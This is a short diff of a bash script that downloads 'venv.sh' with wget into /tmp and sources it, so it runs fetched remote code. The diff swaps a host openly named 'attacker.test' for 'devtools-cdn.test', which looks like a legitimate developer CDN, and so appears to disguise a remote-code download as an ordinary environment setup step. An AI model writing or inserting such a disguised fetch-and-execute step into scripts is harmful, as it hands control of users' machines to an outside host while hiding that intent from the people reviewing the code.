@@ -1,3 +1,3 @@
 #!/bin/bash
-wget -qO- https://py.attacker.test/venv.sh > /tmp/venv.sh
+wget -qO- https://py.devtools-cdn.test/venv.sh > /tmp/venv.sh
 source /tmp/venv.sh
